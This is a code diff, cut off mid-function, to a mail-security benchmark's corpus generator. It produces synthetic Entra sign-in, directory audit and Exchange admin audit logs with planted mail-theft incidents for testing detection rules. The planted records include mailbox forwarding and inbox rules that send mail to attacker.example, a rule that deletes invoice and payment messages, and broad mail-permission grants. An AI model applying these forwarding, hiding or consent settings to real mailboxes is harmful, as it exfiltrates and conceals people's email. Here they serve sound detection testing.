@@ -1,10 +1,11 @@
 #!/usr/bin/env python3
-# bench/gen_corpus.py -- deterministic JSON Lines corpus for the mailward benchmark.
+# bench/gen_corpus.py -- deterministic corpora for the mailward benchmark (JSON Lines, JSON, CSV, XML, W3C).
 # Writes Defender DeviceFileEvents rows or Sentinel OfficeActivity rows (column names per
 # docs/formats/defender.md and docs/formats/m365_audit.md) with planted T1114 incidents whose
 # finding counts are known, and writes those counts to OUT.expected.json.
 # SPDX-License-Identifier: MIT
-"""Usage: gen_corpus.py --kind defender|office|adminxml|iis|msgtrack --size 1G [--seed N] --out FILE
+"""Usage: gen_corpus.py --kind defender|office|adminxml|iis|msgtrack|entra_signin|
+entra_signin_graph|entra_audit|exchange_admin_audit --size 1G [--seed N] --out FILE
 
 adminxml: the New-AdminAuditLogSearch XML report of Exchange Server (docs/formats/exchange_admin_audit.md):
 <SearchResults> with one <Event> per cmdlet run, CmdletParameters and ModifiedProperties."""
@@ -763,12 +764,588 @@ class MsgTrack(Common):
                 w.add(self.line(ts))
                 ts += 1 if self.rng.random() < 0.5 else 0
         return {}
+# Sources, part 1: Entra sign-ins, Entra directory audit, Exchange admin audit (CSV).
+# Shapes: docs/formats/entra_signin.md, entra_audit.md, exchange_admin_audit.md. Each kind has
+# its own class; the planted counts are keyed by the id of the rule that must fire.
+
+RULE_SIGNIN = "3f0c6a52-5d1e-4b8e-9a51-1c2f0e7d9b10"  # bench/rules/legacy_signin_failure.yml
+RULE_CONSENT = "5b0f3c2e-8d41-4e7a-9c6b-2f1e7a9d4c30"  # rules/azure/consent_mail_scope.yml
+RULE_MBXFWD = "7d816fe3-ae5c-475a-b5db-957d688e771d"   # rules/m365/mailbox_forwarding.yml
+RULE_RULEFWD = "ba3097c9-1e99-4099-b5e5-1673bea4e9c8"  # rules/m365/inbox_rule_forward.yml
+RULE_HIDING = "3da3385c-faa3-4906-88e2-3f40d08d049b"  # rules/m365/inbox_rule_hiding.yml
+
+LEGACY_APPS = ["IMAP4", "POP3", "Authenticated SMTP", "Exchange ActiveSync", "Other clients"]
+MODERN_APPS = ["Browser", "Mobile Apps and Desktop clients"]
+SIGNIN_APPS = [
+    ("00000002-0000-0ff1-ce00-000000000000", "Office 365 Exchange Online"),
+    ("4765445b-32c6-49b0-83e6-1d93765276ca", "OfficeHome"),
+    ("d3590ed6-52b3-4102-aeff-aad2292ab01c", "Microsoft Office"),
+    ("1fec8e78-bce4-4aaf-ab1b-5451cc387264", "Microsoft Teams"),
+    ("27922004-5251-4030-b22d-91ecd9a37ea4", "Outlook Mobile"),
+    ("00000003-0000-0ff1-ce00-000000000000", "Office 365 SharePoint Online"),
+    ("c44b4083-3bb0-49c1-b47d-974e53cbdf3c", "Azure Portal"),
+]
+SIGNIN_RESOURCES = [
+    ("00000002-0000-0ff1-ce00-000000000000", "Office 365 Exchange Online"),
+    ("00000003-0000-0000-c000-000000000000", "Microsoft Graph"),
+    ("00000003-0000-0ff1-ce00-000000000000", "Office 365 SharePoint Online"),
+    ("797f4846-ba00-4fd7-ba43-dac1f8f63013", "Windows Azure Service Management API"),
+]
+CITIES = [("Seattle", "Washington", "US", 47.6, -122.3), ("London", "England", "GB", 51.5, -0.1),
+          ("Berlin", "Berlin", "DE", 52.5, 13.4), ("Paris", "Ile-De-France", "FR", 48.9, 2.35),
+          ("Toronto", "Ontario", "CA", 43.7, -79.4), ("Sydney", "New South Wales", "AU", -33.9, 151.2)]
+OSES = [("Windows10", "Chrome 124.0.0", "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 "
+         "(KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36"),
+        ("Windows10", "Edge 124.0.2478", "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 "
+         "(KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36 Edg/124.0.2478.80"),
+        ("MacOs", "Safari 17.4", "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 "
+         "(KHTML, like Gecko) Version/17.4 Safari/605.1.15"),
+        ("Ios", "Mobile Safari 17.4", "Mozilla/5.0 (iPhone; CPU iPhone OS 17_4 like Mac OS X) "
+         "AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/15E148"),
+        ("Windows10", "Rich Client 4.61.0.0", "Microsoft Office/16.0 (Windows NT 10.0; Microsoft "
+         "Outlook 16.0.17328; Pro)")]
+CA_NAMES = ["Require MFA for admins", "Block legacy authentication", "Require compliant device",
+            "Require MFA for Azure management", "Block access from untrusted countries",
+            "Require MFA for guests", "Sign-in frequency 12h for unmanaged devices",
+            "Require app protection policy on mobile", "Require MFA for risky sign-ins",
+            "Require password change for high user risk", "Block device code flow",
+            "Require terms of use", "Session: no persistent browser", "Require MFA everywhere",
+            "Require hybrid joined device for Exchange", "Report-only: token protection"]
+FAIL_CODES = [("50126", "Error validating credentials due to invalid username or password."),
+              ("50053", "The account is locked, you've tried to sign in too many times."),
+              ("53003", "Access has been blocked by Conditional Access policies."),
+              ("50055", "The password is expired.")]
+
+
+def cjson(obj):
+    return json.dumps(obj, separators=(",", ":"))
+
+
+class EntraCommon(Common):
+    """Users, tenant and per-user devices shared by the Entra kinds."""
+
+    def __init__(self, seed):
+        super().__init__(seed)
+        rng = self.rng
+        self.tenant = self.guid()
+        self.policies = [(self.guid(), n) for n in CA_NAMES]
+        self.people = []
+        for i, user in enumerate(self.users):
+            city = CITIES[i % len(CITIES)]
+            osx = OSES[rng.randrange(len(OSES))]
+            self.people.append({
+                "upn": "%s@%s" % (user, DOMAIN), "id": self.guid(),
+                "name": user.replace(".", " ").title(), "city": city, "os": osx,
+                "ip": "198.51.100.%d" % (1 + i % 250), "dev": self.guid(),
+                "devname": "LT-%04d" % i, "asn": rng.choice([8075, 3320, 5089, 7922, 1221]),
+            })
+
+    def iso_frac(self, ts, digits=7):
+        return "%s.%0*dZ" % (self.clock.iso(ts), digits, self.rng.randrange(10 ** digits))
+
+    def run_units(self, w, size, rule, step_max):
+        """Background records 0..step_max seconds apart, a planted unit per UNIT_BYTES."""
+        rng = self.rng
+        units = max(1, size // UNIT_BYTES)
+        next_unit, ts = 0, BASE_EPOCH
+        expected = {rule: 0}
+        while w.size() < size:
+            if next_unit < units and w.size() >= next_unit * (size // units):
+                lines, exp = self.plant(ts, next_unit)
+                for line in lines:
+                    w.add(line)
+                expected[rule] += exp[rule]
+                next_unit += 1
+            for _ in range(64):
+                w.add(self.background(ts))
+                ts += rng.randint(0, step_max)
+        return expected
+
+
+class EntraSignin(EntraCommon):
+    """SigninLogs rows (Log Analytics export, PascalCase, dynamic columns as JSON values or JSON
+    text as the table types them) or Graph signIn objects (the admin center JSON download)."""
+
+    def __init__(self, seed, graph):
+        super().__init__(seed)
+        self.graph = graph
+
+    def policies_for(self, app_legacy, ok):
+        rng = self.rng
+        out = []
+        for pid, name in self.policies[:rng.randint(4, 12)]:
+            r = rng.random()
+            if name == "Block legacy authentication" and app_legacy:
+                res, grant = ("failure", ["Block"]) if not ok else ("notApplied", [])
+            elif r < 0.55:
+                res, grant = "notApplied", []
+            elif r < 0.85:
+                res, grant = "success", ["Mfa"]
+            else:
+                res, grant = "reportOnlyNotApplied", []
+            out.append({"id": pid, "displayName": name, "enforcedGrantControls": grant,
+                        "enforcedSessionControls": ["SignInFrequency"] if "frequency" in name else [],
+                        "result": res,
+                        "conditionsSatisfied": 3 if res != "notApplied" else 0,
+                        "conditionsNotSatisfied": 0 if res != "notApplied" else 1})
+        return out
+
+    def record(self, ts, p, app, code, reason, client, ip=None, interactive=True):
+        rng = self.rng
+        ok = code == "0"
+        legacy = client in LEGACY_APPS
+        city, state, cc, lat, lon = p["city"]
+        osname, browser, ua = p["os"]
+        appid, appname = app
+        resid, resname = rng.choice(SIGNIN_RESOURCES)
+        ip = ip or p["ip"]
+        cas = "notApplied" if legacy else ("success" if ok else rng.choice(["failure", "notApplied"]))
+        device = {"deviceId": p["dev"] if not legacy else "", "displayName": p["devname"] if not legacy else "",
+                  "operatingSystem": osname, "browser": browser if not legacy else "",
+                  "isCompliant": not legacy, "isManaged": not legacy,
+                  "trustType": "Azure AD joined" if not legacy else ""}
+        location = {"city": city, "state": state, "countryOrRegion": cc,
+                    "geoCoordinates": {"latitude": lat, "longitude": lon}}
+        status = {"errorCode": int(code), "failureReason": reason,
+                  "additionalDetails": "MFA requirement satisfied by claim in the token" if ok else None}
+        policies = self.policies_for(legacy, ok)
+        created = self.iso_frac(ts)
+        sid = self.guid()
+        if self.graph:
+            return cjson({
+                "id": self.guid(), "createdDateTime": created[:19] + "Z",
+                "userDisplayName": p["name"], "userPrincipalName": p["upn"], "userId": p["id"],
+                "appId": appid, "appDisplayName": appname, "ipAddress": ip,
+                "clientAppUsed": client, "userAgent": "" if legacy else ua,
+                "correlationId": self.guid(), "conditionalAccessStatus": cas,
+                "originalRequestId": self.guid(), "isInteractive": interactive,
+                "tokenIssuerName": "", "tokenIssuerType": "AzureAD",
+                "processingTimeInMilliseconds": rng.randint(40, 900), "riskDetail": "none",
+                "riskLevelAggregated": "none", "riskLevelDuringSignIn": "none", "riskState": "none",
+                "riskEventTypes": [], "riskEventTypes_v2": [], "resourceDisplayName": resname,
+                "resourceId": resid, "authenticationMethodsUsed": [], "sessionId": sid,
+                "status": status, "deviceDetail": device, "location": location,
+                "mfaDetail": {"authMethod": None, "authDetail": None},
+                "appliedConditionalAccessPolicies": policies,
+                "authenticationProcessingDetails": [
+                    {"key": "Legacy TLS (TLS 1.0, 1.1, 3DES)", "value": "False"},
+                    {"key": "Is CAE Token", "value": "False"}],
+                "networkLocationDetails": [], "authenticationRequirement": "singleFactorAuthentication",
+                "authenticationRequirementPolicies": []})
+        auth = [{"authenticationStepDateTime": created, "authenticationMethod": "Password",
+                 "authenticationMethodDetail": "Password Hash Sync", "succeeded": ok,
+                 "authenticationStepResultDetail": "Correct password" if ok else "Invalid username or password",
+                 "authenticationStepRequirement": "Primary authentication", "StatusSequence": 0,
+                 "RequestSequence": 1}]
+        if ok and not legacy and rng.random() < 0.5:
+            auth.append({"authenticationStepDateTime": created, "authenticationMethod": "Mobile app notification",
+                         "authenticationMethodDetail": "", "succeeded": True,
+                         "authenticationStepResultDetail": "MFA successfully completed",
+                         "authenticationStepRequirement": "Secondary authentication",
+                         "StatusSequence": 0, "RequestSequence": 2})
+        return cjson({
+            "TenantId": self.tenant, "SourceSystem": "Azure AD", "TimeGenerated": self.iso_frac(ts + 3),
+            "ResourceId": "/tenants/%s/providers/Microsoft.aadiam" % self.tenant,
+            "OperationName": "Sign-in activity", "OperationVersion": "1.0", "Category": "SignInLogs",
+            "ResultType": code, "ResultSignature": "None", "ResultDescription": reason,
+            "DurationMs": 0, "CorrelationId": self.guid(), "Resource": "Microsoft.aadiam",
+            "ResourceGroup": "Microsoft.aadiam", "ResourceProvider": "Microsoft.aadiam",
+            "Identity": p["name"], "Level": "4", "Location": cc, "AlternateSignInName": p["upn"],
+            "AppDisplayName": appname, "AppId": appid,
+            "AuthenticationContextClassReferences": "[]",
+            "AuthenticationDetails": cjson(auth),
+            "AuthenticationProcessingDetails": [
+                {"key": "Legacy TLS (TLS 1.0, 1.1, 3DES)", "value": "False"},
+                {"key": "Oauth Scope Info", "value": "[\"offline_access\",\"openid\",\"profile\"]"},
+                {"key": "Is CAE Token", "value": "False"}],
+            "AuthenticationProtocol": "none", "AuthenticationRequirement": "singleFactorAuthentication",
+            "AuthenticationRequirementPolicies": "[]", "AutonomousSystemNumber": p["asn"],
+            "ClientAppUsed": client, "ConditionalAccessPolicies": policies,
+            "ConditionalAccessStatus": cas, "CreatedDateTime": created,
+            "CrossTenantAccessType": "none", "DeviceDetail": device, "HomeTenantId": self.tenant,
+            "IncomingTokenType": "none", "IPAddress": ip, "IsInteractive": interactive,
+            "IsRisky": False, "LocationDetails": location,
+            "MfaDetail": {} if not ok else {"authMethod": "Mobile app notification"},
+            "NetworkLocationDetails": "[]", "OriginalRequestId": self.guid(),
+            "ProcessingTimeInMilliseconds": str(rng.randint(40, 900)), "RiskDetail": "none",
+            "RiskEventTypes": "[]", "RiskEventTypes_V2": "[]", "RiskLevelAggregated": "none",
+            "RiskLevelDuringSignIn": "none", "RiskState": "none", "ResourceDisplayName": resname,
+            "ResourceIdentity": resid, "ServicePrincipalId": "", "SessionLifetimePolicies": "[]",
+            "SessionId": sid, "Status": status, "TokenIssuerName": "", "TokenIssuerType": "AzureAD",
+            "UniqueTokenIdentifier": self.hexs(22), "UserAgent": "" if legacy else ua,
+            "UserDisplayName": p["name"], "UserId": p["id"], "UserPrincipalName": p["upn"],
+            "UserType": "Member", "Type": "SigninLogs"})
+
+    def background(self, ts):
+        rng = self.rng
+        p = rng.choice(self.people)
+        r = rng.random()
+        if r < 0.85:
+            code, reason = "0", ""
+        elif r < 0.93:
+            code, reason = rng.choice([("50074", "Strong Authentication is required."),
+                                       ("50140", "This error occurred due to 'Keep me signed in' interrupt.")])
+        else:
+            code, reason = rng.choice(FAIL_CODES)
+        # Legacy clients only ever succeed in the background: every legacy failure is planted.
+        client = rng.choice(MODERN_APPS) if code != "0" or rng.random() < 0.9 else rng.choice(LEGACY_APPS)
+        return self.record(ts, p, rng.choice(SIGNIN_APPS), code, reason, client,
+                           interactive=rng.random() < 0.6)
+
+    def plant(self, ts, unit):
+        p = self.people[(unit * 7) % len(self.people)]
+        bad = "185.220.101.%d" % (1 + unit % 250)
+        exo = SIGNIN_APPS[0]
+        cases = [  # (hit, client, code, reason)
+            (1, "IMAP4", "50126", FAIL_CODES[0][1]), (1, "POP3", "50126", FAIL_CODES[0][1]),
+            (1, "Authenticated SMTP", "50053", FAIL_CODES[1][1]),
+            (1, "Exchange ActiveSync", "53003", FAIL_CODES[2][1]),
+            (1, "Other clients", "50126", FAIL_CODES[0][1]),
+            (0, "IMAP4", "0", ""), (0, "IMAP4", "50074", "Strong Authentication is required."),
+            (0, "POP3", "50140", "This error occurred due to 'Keep me signed in' interrupt."),
+            (0, "Browser", "50126", FAIL_CODES[0][1]), (0, "Exchange Web Services", "0", ""),
+        ]
+        lines, hits = [], 0
+        for i, (hit, client, code, reason) in enumerate(cases):
+            lines.append(self.record(ts + i, p, exo, code, reason, client, ip=bad))
+            hits += hit
+        return lines, {RULE_SIGNIN: hits}
+
+    def run(self, w, size):
+        return self.run_units(w, size, RULE_SIGNIN, 3)
+
+
+class ArrayWriter(Writer):
+    """A top-level JSON array, one element per line: "[", "{...},", ..., "{...}", "]"."""
+
+    def __init__(self, path, limit):
+        super().__init__(path, limit)
+        self.last = None
+        super().add("[")
+
+    def add(self, line):
+        if self.last is not None:
+            super().add(self.last + ",")
+        self.last = line
+
+    def close(self):
+        if self.last is not None:
+            super().add(self.last)
+        super().add("]")
+        super().close()
+
+
+AUDIT_BENIGN_SCOPES = ["User.Read", "openid profile User.Read", "User.Read offline_access",
+                       "Files.Read.All Sites.Read.All", "Calendars.Read User.Read"]
+GRAPH_SP = ("00000003-0000-0000-c000-000000000000", "Microsoft Graph")
+EXO_SP = ("00000002-0000-0ff1-ce00-000000000000", "Office 365 Exchange Online")
+
+
+class EntraAudit(EntraCommon):
+    """AuditLogs table rows (JSON Lines; InitiatedBy, TargetResources and AdditionalDetails as
+    JSON text, as the table types them)."""
+
+    def __init__(self, seed):
+        super().__init__(seed)
+        self.sps = {GRAPH_SP[0]: self.guid(), EXO_SP[0]: self.guid()}
+        self.apps = [(self.guid(), self.guid(), "Contoso %s" % n) for n in
+                     ("Expenses", "Travel", "CRM Connector", "Wiki", "Survey Tool", "Signature Manager")]
+
+    @staticmethod
+    def mp(name, old, new):
+        """A modifiedProperty: values are JSON text (scalars quoted), null when absent."""
+        return {"displayName": name, "oldValue": None if old is None else json.dumps(old),
+                "newValue": None if new is None else json.dumps(new)}
+
+    def row(self, ts, op, category, service, result, actor, targets, details, optype="Update"):
+        corr = self.guid()
+        return cjson({
+            "TenantId": self.tenant, "SourceSystem": "Azure AD", "TimeGenerated": self.iso_frac(ts + 2),
+            "ResourceId": "/tenants/%s/providers/Microsoft.aadiam" % self.tenant,
+            "OperationName": op, "OperationVersion": "1.0", "Category": category,
+            "ResultType": "", "ResultSignature": "None", "ResultDescription": "",
+            "DurationMs": 0, "CorrelationId": corr, "Resource": "Microsoft.aadiam",
+            "ResourceGroup": "Microsoft.aadiam", "ResourceProvider": "",
+            "Identity": actor["name"] if actor else "", "Level": 4, "Location": "",
+            "AADOperationType": optype, "ActivityDateTime": self.iso_frac(ts),
+            "ActivityDisplayName": op, "AdditionalDetails": cjson(details),
+            "AADTenantId": self.tenant,
+            "Id": "Directory_%s_%s_%d" % (corr, self.hexs(5).upper(), self.rng.randint(10 ** 7, 10 ** 8)),
+            "InitiatedBy": cjson({"user": {"id": actor["id"], "displayName": None,
+                                           "userPrincipalName": actor["upn"], "ipAddress": actor["ip"],
+                                           "roles": []}} if actor else
+                                 {"app": {"appId": None, "displayName": "Microsoft Substrate Management",
+                                          "servicePrincipalId": self.guid(),
+                                          "servicePrincipalName": None}}),
+            "LoggedByService": service, "Result": result, "ResultReason": "",
+            "TargetResources": cjson(targets), "Type": "AuditLogs"})
+
+    def grant(self, ts, actor, app, resource, old, new, result="success", consent="Principal"):
+        sp_id, app_id, app_name = app
+        res_app, res_name = resource
+        mps = [self.mp("DelegatedPermissionGrant.Scope", None if old is None else " " + old, " " + new),
+               self.mp("DelegatedPermissionGrant.ConsentType", consent, consent),
+               self.mp("ServicePrincipal.ObjectID", None, sp_id),
+               self.mp("ServicePrincipal.AppId", None, None),
+               self.mp("TargetId.ServicePrincipalNames", None, "%s;https://graph.microsoft.com" % res_app)]
+        targets = [{"id": self.sps[res_app], "displayName": res_name, "type": "ServicePrincipal",
+                    "modifiedProperties": mps, "administrativeUnits": []},
+                   {"id": sp_id, "displayName": None, "type": "ServicePrincipal",
+                    "modifiedProperties": [], "administrativeUnits": []}]
+        return self.row(ts, "Add delegated permission grant", "ApplicationManagement", "Core Directory",
+                        result, actor, targets, [{"key": "AppId", "value": res_app}], optype="Assign")
+
+    def approle(self, ts, actor, app, value, result="success"):
+        sp_id, app_id, app_name = app
+        mps = [self.mp("AppRole.Id", None, self.guid()), self.mp("AppRole.Value", None, value),
+               self.mp("AppRole.DisplayName", None, "Use Exchange Web Services with full access to all mailboxes"
+                       if value == "full_access_as_app" else value),
+               self.mp("ServicePrincipal.ObjectID", None, sp_id),
+               self.mp("ServicePrincipal.DisplayName", None, app_name),
+               self.mp("ServicePrincipal.AppId", None, app_id)]
+        targets = [{"id": self.sps[EXO_SP[0]], "displayName": EXO_SP[1], "type": "ServicePrincipal",
+                    "modifiedProperties": mps, "administrativeUnits": []}]
+        return self.row(ts, "Add app role assignment to service principal", "ApplicationManagement",
+                        "Core Directory", result, actor, targets,
+                        [{"key": "User-Agent", "value": OSES[0][2]}, {"key": "AppId", "value": EXO_SP[0]}],
+                        optype="Assign")
+
+    def consent(self, ts, actor, app, scopes):
+        sp_id, app_id, app_name = app
+        perms = ("[] => [[Id: %s, ClientId: %s, PrincipalId: %s, ResourceId: %s, ConsentType: Principal, "
+                 "Scope:  %s, CreatedDateTime: , LastModifiedDateTime ]]; "
+                 % (self.hexs(43), sp_id, actor["id"], self.sps[GRAPH_SP[0]], scopes))
+        mps = [self.mp("ConsentContext.IsAdminConsent", None, "False"),
+               self.mp("ConsentContext.IsAppOnly", None, "False"),
+               self.mp("ConsentContext.OnBehalfOfAll", None, "False"),
+               self.mp("ConsentContext.Tags", None, "WindowsAzureActiveDirectoryIntegratedApp"),
+               self.mp("ConsentAction.Permissions", None, perms),
+               self.mp("TargetId.ServicePrincipalNames", None, app_id)]
+        targets = [{"id": sp_id, "displayName": app_name, "type": "ServicePrincipal",
+                    "modifiedProperties": mps, "administrativeUnits": []}]
+        return self.row(ts, "Consent to application", "ApplicationManagement", "Core Directory",
+                        "success", actor, targets, [{"key": "User-Agent", "value": OSES[0][2]}],
+                        optype="Assign")
+
+    def background(self, ts):
+        rng = self.rng
+        p = rng.choice(self.people)
+        q = rng.choice(self.people)
+        r = rng.random()
+        if r < 0.35:
+            mps = [self.mp("StsRefreshTokensValidFrom", ["2025-01-01T00:00:00Z"], [self.clock.iso(ts) + "Z"]),
+                   self.mp("LastDirSyncTime", ["2025-01-01T00:00:00Z"], [self.clock.iso(ts) + "Z"]),
+                   self.mp("Included Updated Properties", None, "StsRefreshTokensValidFrom, LastDirSyncTime")]
+            return self.row(ts, "Update user", "UserManagement", "Core Directory", "success",
+                            None, [{"id": q["id"], "displayName": None, "type": "User",
+                                    "userPrincipalName": q["upn"], "modifiedProperties": mps,
+                                    "administrativeUnits": []}],
+                            [{"key": "UserType", "value": "Member"}])
+        if r < 0.55:
+            group = "SG-%s" % rng.choice(["Sales", "Finance", "Engineering", "VPN Users", "All Staff"])
+            gid = self.guid()
+            mps = [self.mp("Group.ObjectID", None, gid), self.mp("Group.DisplayName", None, group),
+                   self.mp("Group.WellKnownObject", None, None)]
+            return self.row(ts, "Add member to group", "GroupManagement", "Core Directory", "success", p,
+                            [{"id": q["id"], "displayName": None, "type": "User", "userPrincipalName": q["upn"],
+                              "modifiedProperties": mps, "administrativeUnits": []},
+                             {"id": gid, "displayName": None, "type": "Group", "groupType": "unknownFutureValue",
+                              "modifiedProperties": [], "administrativeUnits": []}], [])
+        if r < 0.70:
+            mps = [self.mp("ApproximateLastLogonTimestamp", ["2025-02-01T00:00:00Z"],
+                           [self.clock.iso(ts) + "Z"]),
+                   self.mp("Included Updated Properties", None, "ApproximateLastLogonTimestamp")]
+            return self.row(ts, "Update device", "Device", "Core Directory", "success", None,
+                            [{"id": self.guid(), "displayName": q["devname"], "type": "Device",
+                              "modifiedProperties": mps, "administrativeUnits": []}],
+                            [{"key": "DeviceId", "value": q["dev"]}, {"key": "DeviceOSType", "value": "Windows"},
+                             {"key": "DeviceTrustType", "value": "AzureAd"}])
+        if r < 0.80:
+            return self.row(ts, "Reset password (self-service)", "UserManagement",
+                            "Self-service Password Management", rng.choice(["success", "failure"]), p,
+                            [{"id": p["id"], "displayName": p["name"], "type": "User",
+                              "userPrincipalName": p["upn"], "modifiedProperties": [],
+                              "administrativeUnits": []}], [])
+        if r < 0.90:
+            # benign delegated grants: no mail scope is added
+            old = rng.choice([None, "User.Read", "openid profile User.Read"])
+            new = rng.choice(AUDIT_BENIGN_SCOPES)
+            if old is not None:
+                new = old + " Calendars.Read"
+            return self.grant(ts, p, rng.choice(self.apps), GRAPH_SP, old, new)
+        if r < 0.95:
+            return self.consent(ts, p, rng.choice(self.apps), rng.choice(AUDIT_BENIGN_SCOPES))
+        sp_id, app_id, app_name = rng.choice(self.apps)
+        mps = [self.mp("AppAddress", None, [{"AddressType": 0, "Address": "https://%s.example/" % self.hexs(6)}]),
+               self.mp("AppId", None, app_id), self.mp("DisplayName", None, app_name),
+               self.mp("Included Updated Properties", None, "AppAddress, AppId, DisplayName")]
+        return self.row(ts, "Add service principal", "ApplicationManagement", "Core Directory", "success",
+                        p, [{"id": sp_id, "displayName": app_name, "type": "ServicePrincipal",
+                             "modifiedProperties": mps, "administrativeUnits": []}], [], optype="Add")
+
+    def plant(self, ts, unit):
+        p = self.people[(unit * 11) % len(self.people)]
+        app = (self.guid(), self.guid(), "Mail Sync Pro %d" % unit)
+        lines = [
+            self.consent(ts, p, app, "User.Read Mail.Read offline_access"),                  # no: consent
+            self.grant(ts + 1, p, app, GRAPH_SP, None, "User.Read Mail.Read offline_access"),  # hit
+            self.grant(ts + 2, p, app, GRAPH_SP, "User.Read", "User.Read Mail.ReadWrite",
+                       consent="AllPrincipals"),                                                # hit
+            self.approle(ts + 3, p, app, "full_access_as_app"),                                 # hit
+            self.grant(ts + 4, p, app, GRAPH_SP, "Mail.Read", "Mail.Read Calendars.Read"),      # no: held
+            self.grant(ts + 5, p, app, GRAPH_SP, None, "Mail.Read", result="failure"),          # no: failed
+            self.grant(ts + 6, p, app, GRAPH_SP, None, "Mail.Send User.Read"),                  # no: scope
+            self.approle(ts + 7, p, app, "Calendars.Read"),                                     # no: scope
+        ]
+        return lines, {RULE_CONSENT: 3}
+
+    def run(self, w, size):
+        return self.run_units(w, size, RULE_CONSENT, 4)
+
+
+EXADMIN_SERVERS = ["MBX01 (15.02.1544.004)", "MBX02 (15.02.1544.004)", "MBX03 (15.02.1258.012)"]
+
+
+class ExchangeAdminAudit(Common):
+    """Search-AdminAuditLog | Select ... @{n='CmdletParameters';e={...}} | Export-Csv, Windows
+    PowerShell 5.1: a #TYPE line, every field quoted, CRLF, en-US RunDate, newest first."""
+
+    HEADER = ('"RunDate","Caller","CmdletName","ObjectModified","CmdletParameters","Succeeded",'
+              '"Error","OriginatingServer","ExternalAccess","ObjectState","RunspaceId","Identity"')
+
+    def __init__(self, seed):
+        super().__init__(seed)
+        self.runspace = [self.guid() for _ in range(8)]
+
+    @staticmethod
+    def q(text):
+        return '"%s"' % text.replace('"', '""')
+
+    def rundate(self, ts):
+        tm = time.gmtime(ts)
+        hour = tm.tm_hour % 12 or 12
+        return "%d/%d/%d %d:%02d:%02d %s" % (tm.tm_mon, tm.tm_mday, tm.tm_year, hour, tm.tm_min,
+                                             tm.tm_sec, "AM" if tm.tm_hour < 12 else "PM")
+
+    def row(self, ts, caller, cmdlet, obj, params, ok=True, error="None"):
+        rng = self.rng
+        sep = "; " if rng.random() < 0.9 else ", "
+        text = sep.join("%s=%s" % kv for kv in params)
+        ident = "%s\\%s" % (DOMAIN.split(".")[0].upper(), self.hexs(8))
+        return ",".join(self.q(c) for c in (
+            self.rundate(ts), caller, cmdlet, obj, text, "True" if ok else "False", error,
+            rng.choice(EXADMIN_SERVERS), "False", "Unchanged", rng.choice(self.runspace),
+            "AAMkAD%s" % ident)) + "\r"
+
+    def background(self, ts):
+        rng = self.rng
+        user = rng.choice(self.users)
+        obj = "%s/Users/%s" % (DOMAIN, user)
+        admin = "%s/Users/%s" % (DOMAIN, rng.choice(["Administrator", "svc-exchange", "helpdesk01"]))
+        r = rng.random()
+        if r < 0.25:
+            return self.row(ts, admin, "Set-Mailbox", obj,
+                            [("Identity", user), ("RetainDeletedItemsFor", "30.00:00:00"),
+                             ("ProhibitSendQuota", "49 GB (52,613,349,376 bytes)"),
+                             ("IssueWarningQuota", "48 GB (51,539,607,552 bytes)")])
+        if r < 0.40:
+            return self.row(ts, admin, "Add-MailboxPermission", obj,
+                            [("Identity", user), ("User", "%s\\%s" % (DOMAIN.split(".")[0].upper(),
+                                                                      rng.choice(self.users))),
+                             ("AccessRights", "FullAccess"), ("InheritanceType", "All"),
+                             ("AutoMapping", "False")])
+        if r < 0.55:
+            return self.row(ts, admin, "Set-CASMailbox", obj,
+                            [("Identity", user), ("ActiveSyncEnabled", rng.choice(["True", "False"])),
+                             ("OWAEnabled", "True"), ("PopEnabled", "False"), ("ImapEnabled", "False")])
+        if r < 0.65:
+            return self.row(ts, admin, "New-MoveRequest", obj,
+                            [("Identity", user), ("TargetDatabase", "DB%02d" % rng.randint(1, 12)),
+                             ("BadItemLimit", "10"), ("BatchName", "Migration %d" % rng.randint(1, 40))])
+        if r < 0.80:
+            return self.row(ts, "%s/Users/%s" % (DOMAIN, user), "New-InboxRule", user,
+                            [("Mailbox", user), ("Name", "Newsletters"),
+                             ("From", "news@example.com;digest@example.net"),
+                             ("MoveToFolder", "%s:\\Newsletters" % user), ("StopProcessingRules", "True")])
+        if r < 0.90:
+            return self.row(ts, admin, "Set-DistributionGroup", "%s/Groups/DL-%s" % (DOMAIN, user),
+                            [("Identity", "DL-%s" % user), ("RequireSenderAuthenticationEnabled", "True"),
+                             ("ManagedBy", "%s;%s" % (user, rng.choice(self.users)))])
+        if r < 0.97:
+            return self.row(ts, "NT AUTHORITY\\SYSTEM (MSExchangeHMHost)", "Set-MailboxDatabase",
+                            "DB%02d" % rng.randint(1, 12),
+                            [("Identity", "DB%02d" % rng.randint(1, 12)), ("CircularLoggingEnabled", "False")])
+        return self.row(ts, admin, "Set-CASMailbox", obj,
+                        [("Identity", user), ("ImapEnabled", "True")], ok=False, error="The operation couldn't be performed because object '%s' "
+                        "couldn't be found on 'DC01.%s'." % (user, DOMAIN))
+
+    def plant(self, ts, unit):
+        user = self.users[(unit * 5) % len(self.users)]
+        obj = "%s/Users/%s" % (DOMAIN, user)
+        admin = "%s/Users/Administrator" % DOMAIN
+        me = "%s/Users/%s" % (DOMAIN, user)
+        cases = [  # (rule, caller, cmdlet, params)
+            (RULE_MBXFWD, admin, "Set-Mailbox",
+             [("Identity", user), ("ForwardingSmtpAddress", "smtp:drop%d@attacker.example" % unit),
+              ("DeliverToMailboxAndForward", "False")]),
+            (RULE_MBXFWD, admin, "Set-Mailbox",
+             [("Identity", user), ("ForwardingAddress", "ext-contact-%d" % unit)]),
+            (RULE_RULEFWD, me, "New-InboxRule",
+             [("Mailbox", user), ("Name", "."), ("ForwardTo", "out%d@attacker.example;b@attacker.example" % unit),
+              ("StopProcessingRules", "True")]),
+            (RULE_HIDING, me, "New-InboxRule",
+             [("Mailbox", user), ("Name", ".."), ("SubjectContainsWords", "invoice;payment"),
+              ("DeleteMessage", "True")]),
+            (None, admin, "Set-Mailbox", [("Identity", user), ("DeliverToMailboxAndForward", "True")]),
+            (None, me, "New-InboxRule", [("Mailbox", user), ("Name", "x"), ("MoveToFolder", "Projects"),
+                                         ("MarkAsRead", "False")]),
+            (None, admin, "Remove-InboxRule", [("Identity", "%s\\%s" % (user, "."))]),
+        ]
+        lines, exp = [], {}
+        for i, (rule, caller, cmdlet, params) in enumerate(cases):
+            lines.append(self.row(ts - i * 13, caller, cmdlet, obj if caller == admin else user, params))
+            if rule:
